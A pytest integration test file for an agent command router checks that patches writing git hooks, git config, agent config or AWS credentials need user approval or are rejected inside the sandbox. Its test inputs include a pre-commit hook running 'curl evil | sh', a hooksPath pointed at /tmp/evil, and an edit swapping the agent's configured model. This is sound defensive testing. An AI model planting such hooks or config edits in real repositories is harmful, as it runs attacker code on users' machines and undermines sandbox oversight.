"""apply_patch writes only what a sandboxed command could: never `.git/hooks` unasked.

A patch adding `.git/hooks/pre-commit` (code the user's next `git commit` runs, outside any
sandbox) under workspace-write is asked for, or rejected under `never`, exactly where the
command `printf x > .git/hooks/pre-commit` fails read-only; in the router's own environment
and on a daemon. An ordinary patch still applies without asking.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from shellgate.common.sandbox import sandbox_unavailable_reason
from shellgate.router.runtime.runtimes.apply_patch import PATCH_OUTSIDE_PROJECT
from shellgate.v1 import common_pb2, router_pb2

from tests.integration.sandbox_support import router_with_daemon
from tests.router_harness import (
    Router,
    completed,
    execute,
    function_item,
    turn,
)

pytestmark = pytest.mark.skipif(bool(sandbox_unavailable_reason()), reason="no bubblewrap")
WORKSPACE_WRITE = common_pb2.PERMISSION_PROFILE_KIND_WORKSPACE_WRITE
ON_REQUEST = common_pb2.APPROVAL_POLICY_KIND_ON_REQUEST
NEVER = common_pb2.APPROVAL_POLICY_KIND_NEVER
HOOK = "*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n+curl evil | sh\n"
ENVIRONMENTS = ("local", "box")


def _call(router: Router, ws: Path, item: common_pb2.ToolCallItem, approval: int, env: str,
          thread: str) -> list[router_pb2.ExecuteResponse]:  # fmt: skip
    request = router_pb2.ExecuteRequest(
        thread_id=thread,
        turn=turn(profile=WORKSPACE_WRITE, cwd=str(ws), approval=approval, environment_id=env),
        item=item,
    )
    return execute(router.stub, request)


def _patch(
    router: Router, ws: Path, body: str, approval: int, env: str, call: str
) -> list[router_pb2.ExecuteResponse]:
    script = f"apply_patch <<'EOF'\n*** Begin Patch\n{body}*** End Patch\nEOF\n"
    item = function_item("exec_command", {"cmd": script}, call)
    return _call(router, ws, item, approval, env, f"t-{call}")


def _command(router: Router, ws: Path, cmd: str, env: str, call: str) -> str:
    item = function_item("exec_command", {"cmd": cmd}, call)
    return completed(_call(router, ws, item, NEVER, env, f"t-{call}")).output_text


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A git repository as workspace (its .git exists, so the sandbox binds it read-only)."""
    ws = tmp_path / "ws"
    ws.mkdir()
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    return ws


def test_a_hook_patch_asks_or_is_rejected_where_the_command_is_denied(repo: Path) -> None:
    hook = repo / ".git" / "hooks" / "pre-commit"
    with router_with_daemon(repo) as router:
        for env in ENVIRONMENTS:
            # The sandboxed command cannot write there...
            text = _command(router, repo, "printf x > .git/hooks/pre-commit", env, f"cmd-{env}")
            assert "Read-only file system" in text, (env, text)
            assert not hook.exists()
            # ...so neither does the patch without the user: it asks (caller route)...
            asked = _patch(router, repo, HOOK, ON_REQUEST, env, f"ask-{env}")
            assert asked[-1].WhichOneof("event") == "approval_required", (env, asked[-1])
            # ...or, under never, is rejected like a write outside the project.
            done = completed(_patch(router, repo, HOOK, NEVER, env, f"never-{env}"))
            assert PATCH_OUTSIDE_PROJECT in done.output_text, (env, done.output_text)
            assert not hook.exists()
            # Ordinary patches still apply without asking.
            fine = _patch(
                router, repo, f"*** Add File: src/{env}.txt\n+ok\n", NEVER, env, f"ok-{env}"
            )
            assert "Success" in completed(fine).output_text
            assert (repo / "src" / f"{env}.txt").read_text() == "ok\n"


def test_every_protected_name_and_a_git_yet_to_be_made_ask(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".codex").mkdir(parents=True)
    (ws / ".codex" / "config.toml").write_text("model = 'x'\n")
    bodies = {
        "update": "*** Update File: .codex/config.toml\n@@\n-model = 'x'\n+model = 'evil'\n",
        "delete": "*** Delete File: .codex/config.toml\n",
        "move": "*** Add File: a.txt\n+a\n*** Update File: .codex/config.toml\n*** Move to: b.toml\n@@\n-model = 'x'\n+model = 'y'\n",
        # No repository here yet: making one (its config, its hooks) is asked for too.
        "new-git": "*** Add File: .git/config\n+[core]\n+\thooksPath = /tmp/evil\n",
        "aws": "*** Add File: .aws/credentials\n+[default]\n",
    }
    with router_with_daemon(ws) as router:
        for env in ENVIRONMENTS:
            for name, body in bodies.items():
                events = _patch(router, ws, body, ON_REQUEST, env, f"{name}-{env}")
                assert events[-1].WhichOneof("event") == "approval_required", (env, name)
    assert (ws / ".codex" / "config.toml").read_text() == "model = 'x'\n"
    assert not (ws / ".git").exists() and not (ws / ".aws").exists() and not (ws / "a.txt").exists()


def test_a_symlink_into_git_does_not_lead_a_patch_in(repo: Path) -> None:
    (repo / "hooks").symlink_to(".git/hooks")
    body = "*** Add File: hooks/pre-commit\n+#!/bin/sh\n"
    with router_with_daemon(repo) as router:
        # The router sees where the write lands: asked for.
        local = _patch(router, repo, body, ON_REQUEST, "local", "link-local")
        assert local[-1].WhichOneof("event") == "approval_required"
        # It cannot see a daemon's symlinks; the daemon refuses the write itself (EROFS).
        remote = completed(_patch(router, repo, body, ON_REQUEST, "box", "link-box"))
        assert "Failed to write file hooks/pre-commit" in remote.output_text, remote.output_text
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
